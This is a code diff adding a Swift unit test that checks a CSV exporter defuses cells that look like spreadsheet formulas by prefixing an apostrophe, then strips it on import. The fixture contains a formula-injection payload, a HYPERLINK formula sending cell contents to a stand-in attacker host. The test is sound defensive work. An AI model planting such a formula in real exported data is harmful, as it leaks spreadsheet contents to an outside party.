@@ -380,6 +380,29 @@ final class SpreadsheetTests: RegionTestCase {
         XCTAssertEqual(snapshot(), before)
     }
 
+    /// Text from other offices never runs as a formula when Excel opens kbm's CSV; the apostrophe
+    /// that prevents it is taken off again on import.
+    func testCSVCellsThatLookLikeFormulasAreDefused() throws {
+        let formula = "=HYPERLINK(\"http://angreifer.example/?\"&A2;\"Klick\")"
+        let id = kbm.ok("add", "stakeholder", "name=Formelverein", "type=organisation", "role=\(formula)", "topics=-Punkt eins,+plus,@at,-3").lastLine
+        let path = dir + "/akteure.csv"
+        kbm.ok("export", path)
+        let json = python("""
+            import csv, json, sys
+            with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:
+                print(json.dumps(list(csv.DictReader(f, delimiter=';'))))
+            """, [path])
+        let row = try XCTUnwrap((try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: String]])?.first)
+        XCTAssertEqual(row["Funktion"], "'" + formula)
+        XCTAssertEqual(row["Themen"], "'+plus\n-3\n-Punkt eins\n@at", "only the cell's first character matters")
+        let before = kbm.ok("show", id, "--file").stdout
+        XCTAssertTrue(kbm.ok("import", path).stdout.hasPrefix("Imported \(path): 0 added, 0 changed, 1 unchanged"))
+        XCTAssertEqual(kbm.ok("show", id, "--file").stdout, before)
+        let typed = try write("neu.csv", Array("ID;Funktion\r\n\(id);'=1+1\r\n".utf8))
+        kbm.ok("import", typed, "--kind", "stakeholder")
+        XCTAssertEqual(kbm.json(id)["role"] as? String, "=1+1")
+    }
+
     func testExportFolderLeavesOutPersonalFields() throws {
         let (_, person, _) = seed()
         let plain = dir + "/ordner"
